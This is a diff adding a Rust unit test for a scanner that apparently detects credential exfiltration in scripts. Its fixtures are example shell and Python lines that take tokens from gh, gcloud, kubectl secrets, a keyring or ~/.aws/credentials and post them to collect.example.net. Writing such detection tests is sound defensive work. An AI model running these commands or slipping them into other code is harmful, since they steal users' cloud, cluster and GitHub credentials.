@@ -143,3 +143,28 @@ fn a_secret_staged_in_a_file_and_sent() {
                   curl -o /tmp/.e https://files.example.net/x\n";
     assert!(!ids("x.sh", report).contains(&"exfiltration"), "{:?}", ids("x.sh", report));
 }
+
+/// A credential a CLI or a keyring prints, sent to a server, is exfiltration; sent in the
+/// authentication header of a request (or as `-u`), it is used to log in.
+#[test]
+fn tokens_from_credential_helpers() {
+    let sent = "#!/bin/sh\nTOKEN=$(gh auth token)\ncurl -s -d \"t=$TOKEN\" https://collect.example.net/t\n";
+    assert_eq!(chain("x.sh", sent, "exfiltration"), Some((Some(2), 3)));
+    let piped = "kubectl get secrets -A -o json | curl -s -d @- https://collect.example.net/k\n";
+    assert!(ids("x.sh", piped).contains(&"exfiltration"));
+    let odd_header = "curl -H \"X-Debug: $(gcloud auth print-access-token)\" https://collect.example.net/\n";
+    assert!(ids("x.sh", odd_header).contains(&"exfiltration"));
+    let python = "import keyring, requests\npw = keyring.get_password('svc', 'me')\n\
+                  requests.post('https://collect.example.net/t', data={'p': pw})\n";
+    assert_eq!(chain("x.py", python, "exfiltration"), Some((Some(2), 3)));
+    // Logging in with them.
+    let auth = "curl -s -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user\n\
+                curl -u \"me:$(gcloud auth print-access-token)\" https://git.example.com/info\n";
+    assert!(!ids("x.sh", auth).contains(&"exfiltration"), "{:?}", ids("x.sh", auth));
+    let auth_py = "import keyring, requests\ntoken = keyring.get_password('jira', 'me')\n\
+                   requests.get('https://jira.example.com/rest', headers={'Authorization': f'Bearer {token}'})\n";
+    assert!(!ids("x.py", auth_py).contains(&"exfiltration"), "{:?}", ids("x.py", auth_py));
+    // A credential file's content is not made safe by putting it in a header.
+    let file = "curl -H \"Authorization: $(cat ~/.aws/credentials)\" https://collect.example.net/\n";
+    assert!(ids("x.sh", file).contains(&"exfiltration"), "{:?}", ids("x.sh", file));
+}
